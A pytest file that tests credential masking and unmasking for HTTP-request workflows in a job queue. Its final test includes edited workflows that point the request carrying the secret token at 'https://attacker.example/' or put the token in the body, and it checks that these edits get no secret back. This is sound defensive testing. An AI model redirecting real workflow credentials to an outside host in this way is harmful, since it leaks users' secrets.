"""The input of a workflow that becomes a credential is masked wherever it is shown; its receiver alone gets it back."""

from __future__ import annotations

import json
from typing import Any

import pytest

from adbot_queue.jobs.masking import MASK, masked
from adbot_queue.jobs.unmasking import unmasked

SECRET = "t0ken"


def workflow(
    credential: str, given: dict[str, Any], *, header: str = "authorization", **request: Any
) -> dict[str, Any]:
    call = {"url": "https://example.com/", "headers": {header: credential, "accept": "text/plain"}} | request
    steps = [{"id": "a", "set_status": "x"}, {"id": "b", "type": "http-request", "payload": call}]
    return {"name": "flow", "input": given, "steps": steps}


REFERENCES = {
    "whole value": workflow("${input.token}", {"token": SECRET, "city": "Bonn"}),
    "within a text": workflow("Bearer ${input.token}", {"token": SECRET, "city": "Bonn"}),
    "nested": workflow("Bearer ${input.auth.token}", {"auth": {"token": SECRET, "kind": "b"}, "city": "Bonn"}),
    "an object": workflow("Bearer ${input.auth}", {"auth": {"token": SECRET}, "city": "Bonn"}),
    "secret path": workflow("x", {"token": SECRET, "city": "Bonn"}, secret_path="hooks/${input.token}"),
    "named header": workflow(
        "${input.token}", {"token": SECRET, "city": "Bonn"}, header="X-Key", secret_headers=["x-key"]
    ),
}


@pytest.mark.parametrize("name", REFERENCES)
def test_an_input_that_a_secret_header_references_is_masked_and_the_rest_is_shown(name: str) -> None:
    shown = masked(REFERENCES[name])
    assert SECRET not in json.dumps(shown)
    assert shown["input"]["city"] == "Bonn"
    assert shown["steps"][0] == {"id": "a", "set_status": "x"}


def test_all_of_the_input_is_masked_where_a_header_references_all_of_it() -> None:
    assert masked(workflow("${input}", {"token": SECRET}))["input"] == MASK


@pytest.mark.parametrize("given", [{}, {"auth": SECRET}, {"token": None}, {"auth": [SECRET]}])
def test_a_reference_to_a_missing_input_masks_what_is_there(given: dict[str, Any]) -> None:
    shown = masked(workflow("${input.auth.token}", given))
    assert SECRET not in json.dumps(shown)
    assert shown["input"].keys() == given.keys()


def test_an_input_that_no_secret_header_references_is_shown() -> None:
    whole = workflow("${input.name}", {"name": "Ada"}, header="x-name")
    assert masked(whole) == whole


@pytest.mark.parametrize("name", REFERENCES)
def test_a_workflow_sent_back_as_it_was_shown_is_whole_again(name: str) -> None:
    assert unmasked(masked(REFERENCES[name]), REFERENCES[name]) == REFERENCES[name]


@pytest.mark.parametrize(
    "edit",
    [
        {"input": {"token": MASK, "city": "attacker.example"}},
        {"steps": workflow("${input.token}", {}, url="https://attacker.example/")["steps"]},
        {"steps": workflow("x", {}, body="${input.token}")["steps"]},
        {"steps": []},
    ],
)
def test_an_edited_workflow_gets_no_masked_input_back(edit: dict[str, Any]) -> None:
    whole = REFERENCES["whole value"]
    assert SECRET not in json.dumps(unmasked(masked(whole) | edit, whole))
